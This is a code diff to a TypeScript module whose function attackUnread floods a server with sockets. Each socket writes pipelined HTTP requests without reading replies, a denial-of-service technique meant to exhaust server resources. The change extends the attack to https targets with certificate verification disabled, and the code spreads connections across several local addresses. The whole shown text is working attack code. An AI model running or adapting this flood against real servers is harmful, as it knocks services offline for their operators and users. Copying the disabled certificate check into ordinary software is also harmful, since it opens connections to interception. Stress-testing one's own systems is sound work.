@@ -1,6 +1,7 @@
 /** Clients that ask without end and read nothing. */
 import { connect, type Socket } from "node:net";
 import { setTimeout as pause } from "node:timers/promises";
+import { connect as connectByTls } from "node:tls";
 import { addressOfNetwork } from "./ask.ts";
 
 export interface UnreadOptions {
@@ -25,12 +26,13 @@ export interface UnreadResult {
 
 const REQUESTS_PER_WRITE = 2000;
 
-/** Opens the sockets and writes for as long as the server takes it, reading nothing. */
+/** Opens the sockets and writes for as long as the server takes it, reading nothing. An https origin may have any certificate. */
 export async function attackUnread(
   origin: string,
   { sockets, path, duration, pipelined, comesAgain = false, networks = 1 }: UnreadOptions,
 ): Promise<UnreadResult> {
-  const { hostname, port, host } = new URL(origin);
+  const { hostname, port, host, protocol } = new URL(origin);
+  const isTls = protocol === "https:";
   const request = `GET ${path} HTTP/1.1\r\nHost: ${host}\r\n\r\n`;
   const bytes = Buffer.from(request.repeat(pipelined ? REQUESTS_PER_WRITE : 1));
   const open = new Set<Socket>();
@@ -41,7 +43,8 @@ export async function attackUnread(
   function begin(number: number): void {
     if (stopped) return;
     const localAddress = addressOfNetwork(number, networks);
-    const socket = connect({ port: Number(port), host: hostname, ...(localAddress && { localAddress }) });
+    const target = { port: Number(port), host: hostname, ...(localAddress && { localAddress }) };
+    const socket = isTls ? connectByTls({ ...target, rejectUnauthorized: false }) : connect(target);
     socket.pause();
     connections += 1;
     open.add(socket);
@@ -51,7 +54,7 @@ export async function attackUnread(
         if (!pipelined || !goesOn) return;
       }
     };
-    socket.on("connect", write);
+    socket.on(isTls ? "secureConnect" : "connect", write);
     if (pipelined) socket.on("drain", write);
     socket
       .on("error", () => undefined)
